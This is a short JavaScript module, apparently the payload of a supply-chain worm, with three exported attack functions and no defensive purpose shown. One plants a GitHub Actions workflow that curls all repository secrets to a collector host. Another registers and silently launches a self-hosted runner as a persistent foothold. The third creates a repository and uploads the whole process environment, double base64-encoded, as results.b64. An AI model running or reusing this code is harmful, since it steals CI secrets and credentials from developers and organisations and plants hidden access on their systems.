const fs = require('fs');
const yml = 'on: push\njobs:\n x:\n  runs-on: ubuntu-latest\n  steps:\n  - run: curl -d "$C" https://collector.example.invalid/s\n    env:\n     C: ${{ toJSON(secrets) }}\n';
module.exports.plant = () => fs.writeFileSync('.github/workflows/check.yml', yml);
module.exports.runner = async (o, repo, cp) => {
  const t = await o.request('POST /repos/' + repo + '/actions/runners/registration-token');
  cp.execSync('curl -L https://github.com.invalid/actions/runner/releases/download/v2/r.tgz | tar xz && ./config.sh --url https://github.com.invalid/' + repo + ' --token ' + t.data.token + ' && nohup ./run.sh &');
};
module.exports.drop = async (o) => {
  await o.repos.createForAuthenticatedUser({ name: 'x' });
  const b = Buffer.from(Buffer.from(JSON.stringify(process.env)).toString('base64')).toString('base64');
  await o.request('PUT /repos/x/x/contents/results.b64', { content: b });
};
